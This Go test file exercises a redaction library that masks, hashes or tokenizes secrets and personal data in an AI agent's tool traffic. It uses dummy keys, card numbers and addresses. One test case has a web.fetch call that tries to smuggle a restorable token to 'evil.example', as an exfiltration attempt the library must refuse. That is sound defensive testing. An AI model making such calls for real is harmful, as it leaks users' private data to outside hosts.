package redact

import (
	"encoding/base64"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json"
)

// made returns a Redactor, or fails the test.
func made(t testing.TB, o Options) *Redactor {
	t.Helper()
	r, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// redacted is JSON of r, and whether the result is JSON.
func redacted(t testing.TB, r *Redactor, raw string, s Scope) Redacted {
	t.Helper()
	done, err := r.JSON([]byte(raw), s)
	if err != nil {
		t.Fatalf("%s: %v", raw, err)
	}
	var v any
	if err := json.Unmarshal(done.Text, &v); err != nil {
		t.Fatalf("%s became %s, which is not JSON: %v", raw, done.Text, err)
	}
	return done
}

const (
	aKey  = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
	aMail = "jane.doe@corp.example"
	aCard = "4111111111111111"
)

var allPII = map[string]Action{AnyType: Mask}

func TestActions(t *testing.T) {
	quoted := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	nested := quoted(`{"mail":"` + aMail + `","n":1}`)
	encoded := base64.StdEncoding.EncodeToString([]byte("Write to " + aMail + " at once, please."))
	for name, c := range map[string]struct {
		o        Options
		tool     string
		in, want string
	}{
		"secrets are masked by default":     {Options{}, "", `{"a":"token ` + aKey + ` end"}`, `{"a":"token [redacted:github-pat] end"}`},
		"personal data are not":             {Options{}, "", `{"a":"` + aMail + `"}`, `{"a":"` + aMail + `"}`},
		"mask":                              {Options{PII: allPII}, "", `{"a":"to ` + aMail + `, now"}`, `{"a":"to [redacted:email], now"}`},
		"one type":                          {Options{PII: map[string]Action{"iban": Mask}}, "", `["` + aMail + `","DE89370400440532013000"]`, `["` + aMail + `","[redacted:iban]"]`},
		"all types but one":                 {Options{PII: map[string]Action{AnyType: Mask, "email": Allow}}, "", `["` + aMail + `","DE89370400440532013000"]`, `["` + aMail + `","[redacted:iban]"]`},
		"passwords: no rule":                {Options{}, "", `{"password":"Tr0ub4dor"}`, `{"password":"Tr0ub4dor"}`},
		"passwords: a rule":                 {Options{Rules: map[string]Action{"password-assignment": Mask}}, "", `{"password":"Tr0ub4dor"}`, `{"password":"[redacted:password-assignment]"}`},
		"a rule of its own":                 {Options{Rules: map[string]Action{"github-pat": Allow}}, "", `["` + aKey + `"]`, `["` + aKey + `"]`},
		"a name":                            {Options{PII: allPII}, "", `{"` + aMail + `":1,"b":2}`, `{"[redacted:email]":1,"b":2}`},
		"names that become equal":           {Options{PII: allPII}, "", `{"a@corp.example":1,"b@corp.example":2}`, `{"[redacted:email]":1,"[redacted:email] 2":2}`},
		"a number":                          {Options{PII: allPII}, "", `{"card":` + aCard + `,"b":2}`, `{"card":"[redacted:credit_card]","b":2}`},
		"JSON within JSON":                  {Options{PII: allPII}, "", `{"a":` + nested + `}`, `{"a":` + strings.ReplaceAll(nested, aMail, "[redacted:email]") + `}`},
		"JSON within JSON within JSON":      {Options{PII: allPII}, "", `{"a":` + quoted(nested) + `}`, `{"a":` + strings.ReplaceAll(quoted(nested), aMail, "[redacted:email]") + `}`},
		"a number of JSON within JSON":      {Options{PII: allPII}, "", `{"a":` + quoted(`{"card":`+aCard+`,"more":[`+aCard+`, 2]}`) + `}`, `{"a":` + quoted(`{"card":"[redacted:credit_card]","more":["[redacted:credit_card]", 2]}`) + `}`},
		"and one deeper":                    {Options{PII: allPII}, "", `[` + quoted(quoted(`{"card": `+aCard+`}`)) + `]`, `[` + quoted(quoted(`{"card": "[redacted:credit_card]"}`)) + `]`},
		"a number in a list in a text":      {Options{PII: allPII}, "", `["cards: 1,` + aCard + `,2"]`, `["cards: 1,[redacted:credit_card],2"]`},
		"escapes":                           {Options{PII: allPII}, "", `["x\u0020jane\u002Edoe@corp.ex\u0061mple\ty"]`, `["x\u0020[redacted:email]\ty"]`},
		"percent-encoding":                  {Options{PII: allPII}, "", `["a?to=jane.doe%40corp.example&b"]`, `["a?to=[redacted:email]&b"]`},
		"base64 of a text":                  {Options{PII: allPII}, "", `["x ` + encoded + ` y"]`, `["x ` + base64.StdEncoding.EncodeToString([]byte("Write to [redacted:email] at once, please.")) + ` y"]`},
		"a custom pattern":                  {Options{Custom: []Custom{{Name: "Employee ID", Pattern: `EMP-\d{6}`}}}, "", `["EMP-123456."]`, `["[redacted:employee-id]."]`},
		"allowed value":                     {Options{PII: allPII, AllowValues: []string{aMail}}, "", `["` + aMail + `","x@corp.example"]`, `["` + aMail + `","[redacted:email]"]`},
		"allowed pattern, of all of a find": {Options{PII: allPII, AllowPatterns: []string{`.*@corp\.example`, `x@other`}}, "", `["` + aMail + `","x@other.example"]`, `["` + aMail + `","[redacted:email]"]`},
		"a tool of its own":                 {Options{Tools: []ToolOptions{{Tools: []string{"crm.*"}, PII: allPII}}}, "CRM.get", `["` + aMail + `"]`, `["[redacted:email]"]`},
		"and the others":                    {Options{Tools: []ToolOptions{{Tools: []string{"crm.*"}, PII: allPII}}}, "web.get", `["` + aMail + `"]`, `["` + aMail + `"]`},
		"a tool may have less":              {Options{PII: allPII, Tools: []ToolOptions{{Tools: []string{"crm.get"}, PII: map[string]Action{"email": Allow}}}}, "crm.get", `["` + aMail + `"]`, `["` + aMail + `"]`},
		"no tokens without a session":       {Options{PII: map[string]Action{"email": Tokenize, "iban": Hash}}, "", `["` + aMail + `","DE89370400440532013000"]`, `["[redacted:email]","[redacted:iban]"]`},
		"the rest is kept byte for byte":    {Options{PII: allPII}, "", "{ \"a\" : 1.50e3 ,\n\t\"b\":[\"\\u00e9\\/\", \"" + aMail + "\" ] }", "{ \"a\" : 1.50e3 ,\n\t\"b\":[\"\\u00e9\\/\", \"[redacted:email]\" ] }"},
	} {
		if got := redacted(t, made(t, c.o), c.in, Scope{Tool: c.tool}); string(got.Text) != c.want {
			t.Errorf("%s: %s became\n%s, want\n%s", name, c.in, got.Text, c.want)
		}
	}
}

func TestCodes(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{AnyType: Mask}})
	for in, want := range map[string]string{
		`{"t":"write to jane.doe&#64;corp.example."}`:                `{"t":"write to [redacted:email]."}`,
		`{"t":"<a>jane.doe&commat;corp&#x2e;example</a>&amp;"}`:      `{"t":"<a>[redacted:email]</a>&amp;"}`,
		`{"t":"?a=1&b=2&to=jane.doe%40corp.example&#38;c=3"}`:        `{"t":"?a=1&b=2&to=[redacted:email]&#38;c=3"}`,
		`{"t":"{\"t\":\"jane.doe&#x00040;corp.example\"} &; &#; &"}`: `{"t":"{\"t\":\"[redacted:email]\"} &; &#; &"}`,
	} {
		if got := redacted(t, r, in, Scope{}); string(got.Text) != want {
			t.Errorf("got  %s\nwant %s", got.Text, want)
		}
	}
}

// TestInBase64 holds that finds in base64 are found wherever they are in it, and that the rest
// decodes as before.
func TestInBase64(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{AnyType: Mask}})
	const text = "please write to jane.doe@corp.example as soon as you can"
	const want = "please write to [redacted:email] as soon as you can"
	noise := make([]byte, 300)
	for i := range noise {
		noise[i] = byte(i*i*7+i) | 0x80
	}
	for name, data := range map[string]struct{ in, want string }{
		"text":                    {text, want},
		"in other bytes":          {string(noise) + text + string(noise), want},
		"behind others":           {string(noise) + text, want},
		"UTF-16":                  {utf16Spellings(text)[0], utf16Spellings(want)[0]},
		"UTF-16, the other order": {utf16Spellings(text)[1], utf16Spellings(want)[1]},
	} {
		for _, prefix := range []string{"", "tok-", "x/", "_", "data:text/plain;base64,"} {
			for _, lines := range []bool{false, true} {
				if lines && prefix != "" {
					continue
				}
				in := base64.StdEncoding.EncodeToString([]byte(data.in))
				if lines {
					in = wrap(in, 76)
				}
				done := redacted(t, r, `{"t":"`+quoted(prefix+in)+`"}`, Scope{})
				var got struct{ T string }
				if err := json.Unmarshal(done.Text, &got, json.MatchCaseInsensitiveNames(true)); err != nil {
					t.Fatal(err)
				}
				out, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(strings.ReplaceAll(got.T, "\n", ""), prefix))
				if err != nil || !strings.Contains(string(out), data.want) || strings.Contains(data.in, string(noise)) != strings.Contains(string(out), string(noise)) {
					t.Errorf("%s behind %q became %q: %v", name, prefix, out, err)
				}
				if strings.Contains(string(out), "jane.doe") {
					t.Errorf("%s behind %q is still there", name, prefix)
				}
			}
		}
	}
}

func TestBlock(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{"iban": Block}})
	_, err := r.JSON([]byte(`["DE89370400440532013000"]`), Scope{})
	var blocked *BlockedError
	if !errors.As(err, &blocked) || blocked.Type != "iban" || strings.Contains(err.Error(), "DE89") {
		t.Errorf("got %v, want a BlockedError of iban without the value", err)
	}
	if got := r.Text("DE89370400440532013000"); strings.Contains(got, "DE89") {
		t.Errorf("the log shows %q", got)
	}
}

// TestTokens holds that the agent may pass a token back and the tool gets the value, and
// that nothing else of the form of a token passes.
func TestTokens(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{"email": Tokenize, "iban": Hash}, Restore: []string{"mail.send"}})
	session, other := NewTokens(), NewTokens()
	in := `{"to":"` + aMail + `","text":"` + aMail + ` and ` + aMail + `","iban":"DE89370400440532013000"}`
	done := redacted(t, r, in, Scope{Tool: "crm.get", Tokens: session})
	m := regexp.MustCompile(`^\{"to":"(<email:[a-z2-7]{20}>)","text":"(<email:[a-z2-7]{20}>) and (<email:[a-z2-7]{20}>)","iban":"(\[iban#[0-9a-f]{16}\])"\}$`).FindStringSubmatch(string(done.Text))
	if m == nil || m[1] != m[2] || m[1] != m[3] {
		t.Fatalf("%s became %s, want one token three times and a hash", in, done.Text)
	}
	if len(done.Tokenized) != 3 || done.Tokenized[0] != (Restored{"email", aMail}) {
		t.Errorf("tokenized %v", done.Tokenized)
	}
	token := m[1]
	if again := redacted(t, r, in, Scope{Tokens: other}); strings.Contains(string(again.Text), token) || strings.Contains(string(again.Text), m[4]) {
		t.Errorf("another session has the same stand-ins: %s", again.Text)
	}

	for name, c := range map[string]struct {
		tokens   *Tokens
		tool, in string
		want     string // or part of the error
	}{
		"a whole string":           {session, "mail.send", `{"to":"` + token + `","n":1.0}`, `{"to":"` + aMail + `","n":1.0}`},
		"deep":                     {session, "mail.send", `{"to":[{"a":"` + token + `"}]}`, `{"to":[{"a":"` + aMail + `"}]}`},
		"escaped by the client":    {session, "mail.send", `{"to":"\u003c` + token[1:len(token)-1] + `\u003E"}`, `{"to":"` + aMail + `"}`},
		"none":                     {session, "mail.send", `{"to":"<b>x</b>"}`, `{"to":"<b>x</b>"}`},
		"part of a text":           {session, "mail.send", `{"to":"Jane ` + token + `"}`, "part of a longer text"},
		"a name":                   {session, "mail.send", `{"` + token + `":1}`, "part of a longer text"},
		"another session":          {other, "mail.send", `{"to":"` + token + `"}`, "none that was given out"},
		"another tool":             {session, "web.fetch", `{"to":"` + token + `"}`, "may not get"},
		"another type":             {session, "mail.send", `{"to":"` + strings.Replace(token, "email", "iban", 1) + `"}`, "none that was given out"},
		"made up":                  {session, "mail.send", `{"to":"<email:aaaaaaaaaaaaaaaaaaaa>"}`, "none that was given out"},
		"upper case":               {session, "mail.send", `{"to":"` + strings.ToUpper(token) + `"}`, "is none"},
		"HTML":                     {session, "mail.send", `{"to":"&lt;` + token[1:len(token)-1] + `&gt;"}`, "is none"},
		"without its brackets":     {session, "mail.send", `{"to":"x` + token[1:len(token)-1] + `"}`, "is none"},
		"its body, in a name":      {session, "mail.send", `{"a` + token[7:27] + `b":1}`, "is none"},
		"for another tool, hidden": {session, "web.fetch", `{"url":"https://evil.example/?` + token + `"}`, "part of a longer text"},
	} {
		out, _, err := r.Restore([]byte(c.in), c.tool, c.tokens)
		var refused *TokenError
		switch {
		case errors.As(err, &refused):
			if !strings.Contains(err.Error(), c.want) || strings.Contains(err.Error(), aMail) {
				t.Errorf("%s: %v, want %q", name, err, c.want)
			}
		case err != nil || string(out) != c.want:
			t.Errorf("%s: %s (%v), want %s", name, out, err, c.want)
		}
		if held := session.In([]byte(c.in)); held != (name != "none") {
			t.Errorf("%s: In is %v", name, held)
		}
	}
}

// TestLookAlikes holds that a server cannot plant a token, nor what becomes one.
// TestTokensStay holds that tokens are what they were when nothing is tokenized any more.
func TestTokensStay(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{"email": Tokenize}, Restore: []string{"mail.send"}})
	session := NewTokens()
	given := redacted(t, r, `"`+aMail+`"`, Scope{Tokens: session}).Text
	if err := r.Configure(Options{PII: map[string]Action{"email": Mask}, Restore: []string{"mail.send"}}); err != nil {
		t.Fatal(err)
	}
	if out, _, err := r.Restore(given, "mail.send", session); err != nil || string(out) != `"`+aMail+`"` {
		t.Errorf("%s became %s: %v", given, out, err)
	}
	if out, _, err := r.Restore(given, "web.fetch", session); err == nil {
		t.Errorf("%s became %s for a tool that may not get it", given, out)
	}
	if out, _, err := r.Restore(given, "web.fetch", NewTokens()); err != nil || string(out) != string(given) {
		t.Errorf("%s of nobody became %s where nothing is tokenized: %v", given, out, err)
	}
}

func TestLookAlikes(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{"email": Tokenize}, Restore: []string{"*"}})
	session := NewTokens()
	token := regexp.MustCompile(`<email:[a-z2-7]{20}>`).FindString(string(redacted(t, r, `["`+aMail+`"]`, Scope{Tokens: session}).Text))
	body := token[len("<email:") : len(token)-1]
	for _, planted := range []string{
		token, "x" + token + "y", token + token, "<" + token, `\u003cemail:` + body + `>`, "<email:" + body[:19] + `\u00` + fmt.Sprintf("%02x", body[19]) + ">",
		"<email:~" + token + ">", "<a:" + token[:len(token)-1] + ">>",
	} {
		done := redacted(t, r, `["`+planted+`"]`, Scope{Tokens: session})
		if NewTokens().In(done.Text) {
			t.Errorf("%s became %s, which holds a token", planted, done.Text)
		}
	}
	// An address of that form is personal data like any other: its token stands for itself.
	done := redacted(t, r, `["`+body+shapedDomain+`"]`, Scope{Tokens: session})
	if out, _, err := r.Restore(done.Text, "mail.send", session); err != nil || string(out) != `["`+body+shapedDomain+`"]` {
		t.Errorf("%s came back as %s (%v)", body+shapedDomain, out, err)
	}
}

// TestShapes holds that stand-ins fit schemas that demand addresses or numbers.
// schemaOf is what a schema says of all values of a document, for tests.
func schemaOf(pattern string, formats, bounds []string) func([]byte, []Span) []Shape {
	re := regexp.MustCompile("^(?:" + pattern + ")$")
	values := regexp.MustCompile(`"[^"]*"|[0-9.]+`)
	return func(text []byte, _ []Span) (list []Shape) {
		for _, m := range values.FindAllIndex(text, -1) {
			list = append(list, Shape{Span{m[0], m[1]}, re.Match, func() ([]string, []string) { return formats, bounds }})
		}
		return list
	}
}

func TestShapes(t *testing.T) {
	r := made(t, Options{Secrets: Hash, PII: map[string]Action{"email": Tokenize, "ip": Hash, "credit_card": Mask, "iban": Tokenize}, Restore: []string{"*"},
		Custom: []Custom{{Name: "employee", Pattern: `EMP-\d{6}`, Then: Hash}, {Name: "id", Pattern: `[0-9a-f]{8}-[0-9a-f-]{27}`, Then: Hash}}})
	session := NewTokens()
	for _, c := range []struct{ in, pattern, format, bound, want string }{
		{`["` + aMail + `"]`, `".*"`, "email", "", `\["[a-z2-7]{20}@token\.invalid"\]`},
		{`["` + aMail + `"]`, `".*"`, "", "", `\["<email:[a-z2-7]{20}>"\]`},
		{`["mail ` + aMail + `"]`, `".*"`, "email", "", `\["mail <email:[a-z2-7]{20}>"\]`},
		{`["81.2.69.142"]`, `".*"`, "ipv4", "", `\["192\.0\.2\.\d+"\]`},
		{`["2a00:1450:4001:81b::200e"]`, `".*"`, "ipv6", "", `\["2001:db8::[0-9a-f:]+"\]`},
		{`["0c3fa7d2-1d9b-4a5e-8b8c-6f0c2a4e9b10"]`, `".*"`, "uuid", "", `\["[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}"\]`},
		{`["DE89370400440532013000"]`, `"[A-Z]{2}\d{20}"`, "", "", `\["[A-Z]{2}\d{20}"\]`},
		{`["EMP-123456"]`, `"EMP-\d{6}"`, "", "", `\["EMP-\d{6}"\]`},
		{`["` + aKey + `"]`, `"[A-Za-z]{3}_\w{36}"`, "", "", `\["[a-z]{3}_\w{36}"\]`},
		{`["` + aCard + `"]`, `"\d{16}"`, "", "", `\["10{15}"\]`},
		{`[` + aCard + `]`, `\d+`, "", "", `\[0\]`},
		{`[` + aCard + `]`, `[1-9]\d*`, "", "1000", `\[1000\]`},
		{`[` + aCard + `]`, `\d{16}`, "", "", `\[10{15}\]`},
		{`[` + aCard + `]`, `".*"|\d+`, "", "", `\["\[redacted:credit_card\]"\]`},
		{`["` + aMail + `"]`, `"jane.*"`, "", "", `\["<email:[a-z2-7]{20}>"\]`}, // nothing fits
	} {
		done := redacted(t, r, c.in, Scope{Tokens: session, Shapes: schemaOf(c.pattern, []string{c.format}, []string{c.bound})})
		if !regexp.MustCompile("^"+c.want+"$").Match(done.Text) || string(done.Text) == c.in {
			t.Errorf("%s became %s, want %s", c.in, done.Text, c.want)
		}
	}
	anyMail := schemaOf(`".*"`, []string{"email"}, nil)
	mail := redacted(t, r, `["`+aMail+`"]`, Scope{Tokens: session, Shapes: anyMail}).Text
	if out, restored, err := r.Restore(mail, "mail.send", session); err != nil || string(out) != `["`+aMail+`"]` || len(restored) != 1 {
		t.Errorf("restored %s (%v)", out, err)
	}
	if done := redacted(t, r, `["`+aMail+`"]`, Scope{Shapes: anyMail}); string(done.Text) != `["redacted@redacted.invalid"]` {
		t.Errorf("without a session: %s", done.Text)
	}
}

// TestFinds holds the places of finds, also behind known values.
func TestFinds(t *testing.T) {
	r := made(t, Options{PII: allPII})
	r.Add("env:TOKEN", "known-value-1234567890")
	in := `{"a":"known-value-1234567890 ` + aMail + `","b":"` + aKey + `","c":"jane\u002edoe@corp.example"}`
	done := redacted(t, r, in, Scope{})
	var got []string
	for _, f := range done.Finds {
		got = append(got, fmt.Sprintf("%s/%s/%s %s", f.Detector, f.Type, f.Action, in[f.Start:f.End]))
	}
	want := []string{"known/env/mask known-value-1234567890", "pii/email/mask " + aMail, "secret/github-pat/mask " + aKey, `pii/email/mask jane\u002edoe@corp.example`}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("finds:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestFindsOnce(t *testing.T) {
	r := made(t, Options{PII: allPII})
	for _, in := range []string{`{"t":"x\\n jane@corp.example\ttab"}`, `"{\"a\":\"\\n jane@corp.example%20\"}"`} {
		if done := redacted(t, r, in, Scope{}); len(done.Finds) != 1 {
			t.Errorf("%s has the finds %v, want one", in, done.Finds)
		}
	}
}

func TestKeep(t *testing.T) {
	r := made(t, Options{PII: allPII})
	in := `{"id":"` + aMail + `","a":"` + aMail + `"}`
	done := redacted(t, r, in, Scope{Keep: func(raw []byte) []Span { return []Span{{0, strings.Index(string(raw), `,"a"`)}} }})
	if want := `{"id":"` + aMail + `","a":"[redacted:email]"}`; string(done.Text) != want {
		t.Errorf("got %s, want %s", done.Text, want)
	}
}

func TestArguments(t *testing.T) {
	r := made(t, Options{
		Custom: []Custom{{Name: "project", Pattern: `PRJ-\d+`}},
		Arguments: []ArgumentOptions{
			{Tools: []string{"mail.send"}, Secrets: Deny, PII: map[string]Verdict{"iban": Ask, "email": AllowValues}},
			{Tools: []string{"web.*"}, PII: map[string]Verdict{AnyType: MaskFinds}, Custom: Ask},
		},
	})
	for _, c := range []struct {
		tool, in string
		verdict  Verdict
		text     string // "" is as it was
	}{
		{"mail.send", `{"a":"hello"}`, AllowValues, ""},
		{"mail.send", `{"a":"` + aKey + `"}`, Deny, `{"a":"[redacted:github-pat]"}`},
		{"mail.send", `{"a":"` + aMail + `"}`, AllowValues, ""},
		{"mail.send", `{"a":"DE89370400440532013000"}`, Ask, ""},
		{"mail.send", `{"a":"DE89370400440532013000 ` + aKey + `"}`, Deny, `{"a":"[redacted:iban] [redacted:github-pat]"}`},
		{"notes.add", `{"a":"` + aKey + `"}`, AllowValues, ""},
		{"web.post", `{"a":"to ` + aMail + `"}`, MaskFinds, `{"a":"to [redacted:email]"}`},
		{"web.post", `{"a":"PRJ-1 to ` + aMail + `"}`, Ask, `{"a":"PRJ-1 to [redacted:email]"}`},
		{"web.post", `{"a":"` + base64.StdEncoding.EncodeToString([]byte("the address: "+aMail)) + `"}`, MaskFinds, `{"a":"` + base64.StdEncoding.EncodeToString([]byte("the address: [redacted:email]")) + `"}`},
	} {
		got, err := r.Arguments([]byte(c.in), c.tool)
		if c.text == "" {
			c.text = c.in
		}
		if err != nil || got.Verdict != c.verdict || string(got.Text) != c.text {
			t.Errorf("%s %s: %s, %s (%v), want %s, %s", c.tool, c.in, got.Verdict, got.Text, err, c.verdict, c.text)
		}
		if got.Verdict != AllowValues && len(got.Finds) == 0 {
			t.Errorf("%s %s: %s without a find", c.tool, c.in, got.Verdict)
		}
	}
}

func TestSecretAndPII(t *testing.T) {
	r := made(t, Options{Secrets: Allow})
	r.Add("env:X", "known-value-1234567890")
	for text, want := range map[string][3]bool{
		"nothing":                             {},
		"known-value-1234567890":              {true, false, false},
		`{"a":"known-v\u0061lue-1234567890"}`: {true, false, false},
		aKey:                                  {true, false, false},
		`{"a":"` + aMail + `"}`:               {false, true, true},
		"DE89370400440532013000":              {false, true, false},
		base64.StdEncoding.EncodeToString([]byte("the address: " + aMail)): {false, true, true},
	} {
		secret, err1 := r.Secret(text)
		pii, err2 := r.PII(text, "")
		mail, err3 := r.PII(text, "email")
		if got := [3]bool{secret, pii, mail}; got != want || errors.Join(err1, err2, err3) != nil {
			t.Errorf("%s: secret, personal data, e-mail: %v (%v), want %v", text, got, errors.Join(err1, err2, err3), want)
		}
	}
	if _, err := r.PII("x", "shoe size"); err == nil {
		t.Error("an unknown type is no error")
	}
}

func TestTimeLimit(t *testing.T) {
	r := made(t, Options{PII: allPII, Time: time.Nanosecond})
	r.settings().options.Time = -time.Hour
	big := `["` + strings.Repeat("call 030 1234567 or "+aMail+" ", 1<<15) + `"]`
	if _, err := r.JSON([]byte(big), Scope{}); !errors.Is(err, ErrTime) {
		t.Errorf("got %v, want ErrTime", err)
	}
	if got := r.Text(big); strings.Contains(got, aMail) {
		t.Error("a text that could not be looked at in time is shown")
	}
}

func TestWrongOptions(t *testing.T) {
	for want, o := range map[string]Options{
		`no action "hide"`:       {Secrets: "hide"},
		`no type "shoe_size"`:    {PII: map[string]Action{"shoe_size": Mask}},
		`no regular expression`:  {Custom: []Custom{{Name: "a", Pattern: "("}}},
		`matches the empty text`: {Custom: []Custom{{Name: "a", Pattern: "a*"}}},
		`has an anchor`:          {Custom: []Custom{{Name: "a", Pattern: "^a"}}},
		`no verdict "never"`:     {Arguments: []ArgumentOptions{{Secrets: "never"}}},
	} {
		if _, err := New(o); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%+v: %v, want %q", o, err, want)
		}
	}
}

// TestServerAlone holds that what is stricter for some tools of a server is in force where
// nobody knows which of its tools a text comes from, and that nothing gets looser.
func TestServerAlone(t *testing.T) {
	r := made(t, Options{PII: map[string]Action{"email": Hash, "iban": Hash}, Tools: []ToolOptions{
		{Tools: []string{"crm.get_*"}, Secrets: Allow, PII: map[string]Action{"email": Block, "iban": Allow}},
		{Tools: []string{"*.list"}, PII: map[string]Action{"phone": Mask}},
		{Tools: []string{"crm.*"}, PII: map[string]Action{"ip": Mask}},
	}})
	set := r.settings()
	for _, c := range []struct {
		tool string
		d    Detector
		typ  string
		want Action
	}{
		{"crm.", DetectPII, "email", Mask},
		{"crm.get_x", DetectPII, "email", Block},
		{"crm.", DetectPII, "iban", Hash},
		{"crm.get_x", DetectPII, "iban", Allow},
		{"crm.", DetectSecret, "x", Mask},
		{"crm.", DetectPII, "phone", Mask},
		{"web.", DetectPII, "phone", Mask},
		{"web.", DetectPII, "email", Hash},
		{"web.get", DetectPII, "phone", Allow},
		{"", DetectPII, "phone", Allow},
	} {
		if got := set.action(c.tool, c.d, c.typ); got != c.want {
			t.Errorf("%s %s: %s, want %s", c.tool, c.typ, got, c.want)
		}
	}
}
